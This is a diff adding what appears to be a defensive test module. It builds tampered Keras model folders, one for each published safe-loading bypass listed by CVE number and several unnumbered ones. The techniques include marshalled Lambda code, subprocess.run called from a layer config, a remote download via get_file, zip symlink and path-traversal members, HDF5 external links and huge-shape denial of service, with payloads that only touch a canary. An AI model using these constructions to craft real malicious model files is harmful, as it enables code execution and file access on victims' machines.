@@ -1,0 +1,245 @@
+"""The published ways around Keras's safe loading, each as an attack on a model's folder.
+
+The attacker may write to the store: the manifest states the right digest and size of the spoilt file. What
+each was is told by the advisory of its number; the payloads here do no more than touch the canary.
+
+Several ways of one number are several attacks: each must be refused for itself, not for its neighbour.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import marshal
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import h5py
+import numpy as np
+
+from tests.hostile.starting import Canary
+from tests.spoiling import rewrite_config, rewrite_members, rewrite_weights, state_digest
+
+Attack = Callable[[Path, Canary], None]
+Layer = dict[str, Any]
+
+
+def code_layer(canary: Canary) -> Layer:
+    """A Lambda layer of compiled code, as Keras itself writes one."""
+    source = f"lambda x: [open({str(canary.file)!r}, 'w').close(), x][1]"
+    compiled = compile(source, "payload", "eval").co_consts[0]
+    code = base64.b64encode(marshal.dumps(compiled)).decode()
+    function = {
+        "class_name": "__lambda__",
+        "config": {"code": code + "\n", "defaults": None, "closure": None},
+    }
+    return lambda_layer(function)
+
+
+def lambda_layer(function: Layer, **arguments: Any) -> Layer:
+    config = {"name": "attack", "trainable": True, "dtype": "float32", "function": function}
+    return layer("keras.layers", "Lambda", {**config, "arguments": arguments})
+
+
+def layer(module: str, class_name: str, config: Any, registered: str | None = None) -> Layer:
+    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}
+
+
+def function(module: str, name: str) -> Layer:
+    return layer(module, "function", name, "function")
+
+
+def add_layers(folder: Path, *layers: Layer, called_with: Any = None) -> None:
+    """Put layers behind the model's last tensor; with `called_with`, they are called with that instead."""
+
+    def change(config: dict[str, Any]) -> None:
+        ratings = config["config"]["layers"]
+        tensor = ratings[-1]["inbound_nodes"][0]["args"][0]
+        node = (
+            {"args": [tensor], "kwargs": {}} if called_with is None else {"args": [], "kwargs": called_with}
+        )
+        for place, one in enumerate(layers):
+            ratings.append({**one, "name": f"attack{place}", "inbound_nodes": [node]})
+
+    rewrite_config(folder, change)
+
+
+def lambda_with_code(folder: Path, canary: Canary) -> None:
+    add_layers(folder, code_layer(canary))
+
+
+def function_of_the_standard_library(folder: Path, canary: Canary) -> None:
+    called_with = {"args": ["touch", str(canary.file)]}
+    add_layers(folder, layer("subprocess", "run", {"name": "attack"}), called_with=called_with)
+
+
+def function_of_any_module(folder: Path, canary: Canary) -> None:
+    called_with = {"args": [str(canary.file)]}
+    add_layers(folder, layer("canary_module", "touch", {"name": "attack"}), called_with=called_with)
+
+
+def own_function_that_downloads(folder: Path, canary: Canary) -> None:
+    arguments = {"fname": str(canary.file), "origin": canary.url, "cache_dir": str(canary.folder)}
+    add_layers(folder, lambda_layer(function("keras.utils", "get_file"), **arguments))
+
+
+def legacy_file_by_the_new_name(folder: Path, canary: Canary) -> None:
+    buffer = io.BytesIO()
+    with h5py.File(buffer, "w") as file:
+        model = {"class_name": "Sequential", "config": {"layers": [code_layer(canary)]}}
+        file.attrs["model_config"] = json.dumps(model)
+        file.attrs["keras_version"] = "2.15.0"
+        file.create_group("model_weights")
+    (folder / "model.keras").write_bytes(buffer.getvalue())
+    state_digest(folder)
+
+
+def safe_mode_switched_off(folder: Path, canary: Canary) -> None:
+    off = lambda_layer(function("keras.config", "enable_unsafe_deserialization"))
+    add_layers(folder, off, code_layer(canary))
+
+
+def vocabulary_by_path(folder: Path, canary: Canary) -> None:
+    add_layers(folder, string_lookup(str(canary.pipe)))
+
+
+def vocabulary_by_address(folder: Path, canary: Canary) -> None:
+    add_layers(folder, string_lookup(canary.url))
+
+
+def string_lookup(vocabulary: str) -> Layer:
+    config = {"name": "attack", "max_tokens": None, "num_oov_indices": 1, "oov_token": "[UNK]"}
+    return layer("keras.layers", "StringLookup", {**config, "vocabulary": vocabulary})
+
+
+def vocabulary_by_path_in_our_lookup(folder: Path, canary: Canary) -> None:
+    def change(config: dict[str, Any]) -> None:
+        for one in config["config"]["layers"]:
+            if one["class_name"] == "IdLookup":
+                one["config"]["vocabulary"] = str(canary.pipe)
+
+    rewrite_config(folder, change)
+
+
+def member_behind_a_link(folder: Path, canary: Canary) -> None:
+    with zipfile.ZipFile(folder / "model.keras", "a") as archive:
+        link = zipfile.ZipInfo("assets")
+        link.external_attr = 0o120777 << 16
+        archive.writestr(link, str(canary.folder))
+        archive.writestr("assets/touched", "x")
+    state_digest(folder)
+
+
+def absolute_member(folder: Path, canary: Canary) -> None:
+    rewrite_members(folder, lambda members: members.update({str(canary.file): b"x"}))
+
+
+def member_above_the_folder(folder: Path, canary: Canary) -> None:
+    name = f"{'../' * 20}{str(canary.file)[1:]}"
+    rewrite_members(folder, lambda members: members.update({name: b"x"}))
+
+
+def gigantic_shape(folder: Path, canary: Canary) -> None:
+    def change(file: h5py.File) -> None:
+        group = file["layers/md_embedding/vars"] if "layers/md_embedding/vars" in file else file["layers"]
+        group.create_dataset("99", shape=(10**6, 10**6, 10**6), dtype="f4", chunks=(1, 1, 10**3))
+
+    rewrite_weights(folder, change)
+
+
+def gigantic_table_in_the_configuration(folder: Path, canary: Canary) -> None:
+    def change(config: dict[str, Any]) -> None:
+        for one in config["config"]["layers"]:
+            sizes = one["config"]
+            if one["class_name"] == "QREmbedding":
+                sizes["quotient_rows"] = 10**10
+            elif one["class_name"] == "MDEmbedding":
+                sizes["block_sizes"][0] = 10**10
+
+    rewrite_config(folder, change)
+
+
+def foreign_graph(folder: Path, canary: Canary) -> None:
+    config = {"name": "attack", "filepath": str(canary.folder), "call_endpoint": "serve"}
+    add_layers(folder, layer("keras.layers", "TFSMLayer", config))
+
+
+def weights_in_another_file(folder: Path, canary: Canary) -> None:
+    def change(file: h5py.File) -> None:
+        size = canary.pipe.parent.joinpath("canary_module.py").stat().st_size
+        external = [(str(canary.folder / "canary_module.py"), 0, size)]
+        vars_ = file["layers"].create_group("attack/vars")
+        vars_.create_dataset("0", shape=(size,), dtype="u1", external=external)
+
+    rewrite_weights(folder, change)
+
+
+def weights_behind_a_link(folder: Path, canary: Canary) -> None:
+    with h5py.File(canary.folder / "other.h5", "w") as other:
+        other["secret"] = np.arange(10)
+    target = h5py.ExternalLink(str(canary.folder / "other.h5"), "/secret")
+    rewrite_weights(folder, lambda file: file["layers"].create_group("attack/vars").update({"0": target}))
+
+
+def weights_of_a_virtual_dataset(folder: Path, canary: Canary) -> None:
+    with h5py.File(canary.folder / "other.h5", "w") as other:
+        other["secret"] = np.arange(10)
+
+    def change(file: h5py.File) -> None:
+        layout = h5py.VirtualLayout(shape=(10,), dtype="i8")
+        layout[:] = h5py.VirtualSource(str(canary.folder / "other.h5"), "secret", shape=(10,))
+        file["layers"].create_group("attack/vars").create_virtual_dataset("0", layout)
+
+    rewrite_weights(folder, change)
+
+
+def own_prefix_on_keras_lambda(folder: Path, canary: Canary) -> None:
+    """No advisory: our prefix on a class that Keras then looks for in the module that is stated."""
+    add_layers(folder, {**code_layer(canary), "registered_name": "stars>Lambda"})
+
+
+def own_prefix_on_any_module(folder: Path, canary: Canary) -> None:
+    attack = {**code_layer(canary), "module": "canary_module", "class_name": "touch"}
+    add_layers(folder, {**attack, "registered_name": "stars>touch"})
+
+
+def lambda_registered_behind_a_known_class(folder: Path, canary: Canary) -> None:
+    add_layers(folder, {**code_layer(canary), "class_name": "Embedding", "registered_name": "keras>Lambda"})
+
+
+def training_configuration(folder: Path, canary: Canary) -> None:
+    """No advisory: what a model is compiled with is deserialised, too."""
+    loss = {"loss": function("canary_module", "touch"), "optimizer": "adam"}
+    rewrite_config(folder, lambda config: config.update(compile_config=loss))
+
+
+def swap_members(members: dict[str, bytes]) -> None:
+    members["config.json"], members["metadata.json"] = members["metadata.json"], members["config.json"]
+
+
+def swapped_members(folder: Path, canary: Canary) -> None:
+    rewrite_members(folder, swap_members)
+
+
+BYPASSES: dict[str, tuple[Attack, ...]] = {
+    "CVE-2024-3660": (lambda_with_code,),
+    "CVE-2025-1550": (function_of_the_standard_library, function_of_any_module),
+    "CVE-2025-8747": (own_function_that_downloads,),
+    "CVE-2025-9905": (legacy_file_by_the_new_name,),
+    "CVE-2025-9906": (safe_mode_switched_off,),
+    "CVE-2025-12058": (vocabulary_by_path, vocabulary_by_address, vocabulary_by_path_in_our_lookup),
+    "CVE-2025-12060": (member_behind_a_link, absolute_member, member_above_the_folder),
+    "CVE-2026-0897": (gigantic_shape, gigantic_table_in_the_configuration),
+    "CVE-2026-1462": (foreign_graph,),
+    "CVE-2026-1669": (weights_in_another_file, weights_behind_a_link, weights_of_a_virtual_dataset),
+    "no number": (
+        own_prefix_on_keras_lambda,
+        own_prefix_on_any_module,
+        lambda_registered_behind_a_known_class,
+        training_configuration,
+        swapped_members,
+    ),
+}
